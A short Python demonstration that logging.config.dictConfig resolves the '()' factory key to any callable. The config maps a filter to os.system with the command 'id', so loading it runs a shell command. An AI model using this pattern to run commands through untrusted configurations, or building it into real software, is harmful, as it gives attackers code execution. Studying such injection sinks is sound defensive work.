"""logging.config resolves dotted names from the configuration and calls them."""
import logging.config

CONFIG = {
    "version": 1,
    "filters": {
        # '()' is a user-supplied factory, resolved by name and called with the keys
        "audit": {"()": "os.system", "command": "id"},
    },
}
logging.config.dictConfig(CONFIG)
